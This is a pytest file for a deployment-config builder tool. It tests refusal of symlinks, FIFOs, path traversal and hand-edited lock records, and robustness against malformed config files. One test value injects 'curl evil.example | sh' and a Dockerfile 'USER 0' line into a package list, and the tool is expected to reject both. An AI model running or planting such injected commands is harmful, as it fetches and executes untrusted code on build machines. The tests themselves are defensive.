"""Issue 17's file reproducers: generate and lock write only plain files they own inside the app, all or none;
the lock's record is sealed and checked; doctor and lint read hostile files without a traceback."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from builder.cli import EXIT_FAILED, EXIT_USER_ERROR, main
from builder.errors import BuilderError
from builder.lock.write import write_lock
from builder.safe_files import Replacement, write_all

GENERATED = ["Dockerfile", "Dockerfile.render", ".dockerignore", "gunicorn.conf.py", "compose.yaml", "render.yaml"]


def generate(root: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(["--spec", str(root), "generate", *args])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return code, captured.err + captured.out


def fresh(sample_copy: Path) -> Path:
    for name in GENERATED:
        (sample_copy / name).unlink()
    return sample_copy


def test_a_directory_named_dockerfile_writes_nothing(sample_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = fresh(sample_copy)
    (root / "Dockerfile.render").mkdir()
    code, out = generate(root, capsys)
    assert code == EXIT_USER_ERROR
    assert "Dockerfile.render: it is a directory" in out
    assert not any((root / name).exists() for name in GENERATED if name != "Dockerfile.render"), "all or none"


def test_a_fifo_is_refused_without_hanging(sample_copy: Path) -> None:
    (sample_copy / "compose.yaml").unlink()
    os.mkfifo(sample_copy / "compose.yaml")
    # A blocking open would hang; the timeout turns that into a failure instead of a stuck test run.
    for args, codes in ((["generate"], {EXIT_USER_ERROR}), (["generate", "--check"], {EXIT_FAILED}),
                        (["doctor"], {0, EXIT_FAILED})):
        result = subprocess.run([sys.executable, "-m", "builder", "--spec", str(sample_copy), *args],
                                capture_output=True, text=True, timeout=60, check=False)
        assert "Traceback" not in result.stderr
        assert result.returncode in codes, result.stderr + result.stdout
    assert (sample_copy / "compose.yaml").is_fifo()


def test_a_symlink_out_of_the_app_is_not_written_through(sample_copy: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text((sample_copy / "Dockerfile").read_text().replace("EXPOSE", "EXPOSE 1\n# EXPOSE"))
    (sample_copy / "Dockerfile").unlink()
    (sample_copy / "Dockerfile").symlink_to(outside)
    before = outside.read_text()
    code, out = generate(sample_copy, capsys, "--force")
    assert code == EXIT_USER_ERROR
    assert "symbolic link" in out
    assert outside.read_text() == before


def test_a_dangling_symlink_creates_nothing_outside(sample_copy: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "created-outside"
    (sample_copy / "render.yaml").unlink()
    (sample_copy / "render.yaml").symlink_to(target)
    code, _ = generate(sample_copy, capsys)
    assert code == EXIT_USER_ERROR
    assert not target.exists()


def test_the_spec_itself_is_never_a_target(sample_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = sample_copy / "compose.yaml"
    spec.unlink()
    (sample_copy / "builder.yaml").rename(spec)
    code, out = generate(spec, capsys, "--force")
    assert code == EXIT_USER_ERROR
    assert "it is the spec" in out
    assert spec.read_text().startswith("#") and "name: gradebook" in spec.read_text()


def test_a_failed_rename_undoes_the_files_already_replaced(tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    first.write_text("old\n")
    staged = [Replacement(first, "new\n", "old\n"), Replacement(second, "new\n", None)]
    second.mkdir()  # appears after the decision, as a file made immutable or replaced would
    with pytest.raises(BuilderError):
        write_all(staged)
    assert first.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["first", "second"], "no temporaries left"


# --- the lock ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("existing", ["builder.yaml", "requirements.txt", "gradebook/wsgi.py"])
def test_lock_never_overwrites_a_file_it_did_not_write(sample_copy: Path, existing: str) -> None:
    before = (sample_copy / existing).read_text()
    with pytest.raises(BuilderError, match="not written by `builder lock`"):
        write_lock(sample_copy, SimpleNamespace(lock_name=existing, text="x==1\n"))  # type: ignore[arg-type]
    assert (sample_copy / existing).read_text() == before


def test_lock_refuses_paths_out_of_the_app_and_links(sample_copy: Path, tmp_path: Path) -> None:
    with pytest.raises(BuilderError, match="not a file inside"):
        write_lock(sample_copy, SimpleNamespace(lock_name="../../ESCAPED.lock", text=""))  # type: ignore[arg-type]
    (sample_copy / "link.lock").symlink_to(tmp_path / "elsewhere.lock")
    with pytest.raises(BuilderError, match="symbolic link"):
        write_lock(sample_copy, SimpleNamespace(lock_name="link.lock", text=""))  # type: ignore[arg-type]
    assert not (tmp_path / "ESCAPED.lock").exists() and not (tmp_path / "elsewhere.lock").exists()


def edit_record(root: Path, **changes: object) -> int:
    """Change fields of the lock's record in place; returns the record's line."""
    lock = root / "requirements.lock"
    lines = lock.read_text().split("\n")
    index = next(i for i, line in enumerate(lines) if line.startswith("# builder-lock: "))
    record = json.loads(lines[index].removeprefix("# builder-lock: "))
    lines[index] = "# builder-lock: " + json.dumps({**record, **changes}, sort_keys=True)
    lock.write_text("\n".join(lines))
    return index + 1


@pytest.mark.parametrize("value", [5, ["gcc; curl evil.example | sh"], ["gcc\nUSER 0"], [["gcc"]]])
def test_a_malformed_lock_record_is_a_user_error(sample_copy: Path, capsys: pytest.CaptureFixture[str],
                                                 value: object) -> None:
    line = edit_record(sample_copy, build_packages=value)
    code, out = generate(sample_copy, capsys)
    assert code == EXIT_USER_ERROR
    assert f"requirements.lock:{line} (build_packages)" in out


def test_an_edited_record_makes_the_lock_stale(sample_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit_record(sample_copy, build_packages=["curl"])
    assert main(["--spec", str(sample_copy), "lock", "--check"]) == EXIT_FAILED
    assert "record was edited by hand" in capsys.readouterr().out


# --- what doctor and lint read ----------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "text"), [
    (".env", "DATABASE_URL=postgres://u:p@[::1/db\n"),
    ("render.yaml", "services:\n  - type: web\n    name: gradebook\n    runtime: docker\n"
                    "    envVars:\n      - key: WEB_CONCURRENCY\n        value: \"²\"\n"),
    ("render.yaml", "databases:\n  - name: []\n    plan: free\n"),
    ("render.yaml", "services: &s\n  - *s\n"),
    ("render.yaml", "services: " + "[" * 3000 + "]" * 3000 + "\n"),
    ("gunicorn.conf.py", "workers = " + "-" * 100_000 + "1\n"),
    ("gunicorn.conf.py", "workers = " + "(" * 150 + "1" + ")" * 150 + "\n"),
])
def test_doctor_reads_hostile_files(sample_copy: Path, capsys: pytest.CaptureFixture[str], name: str,
                                    text: str) -> None:
    (sample_copy / name).write_text(text)
    code = main(["--spec", str(sample_copy), "doctor"])
    err = capsys.readouterr().err
    assert code in (0, EXIT_FAILED), err
    assert "internal error" not in err


def test_lint_reads_a_deep_compose_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    compose = tmp_path / "compose.yaml"
    compose.write_text("services:\n  app:\n    x: " + "[" * 5000 + "]" * 5000 + "\n")
    code = main(["lint", str(compose)])
    err = capsys.readouterr().err
    assert code == EXIT_USER_ERROR, err
    assert "compose.yaml" in err and "nesting" in err
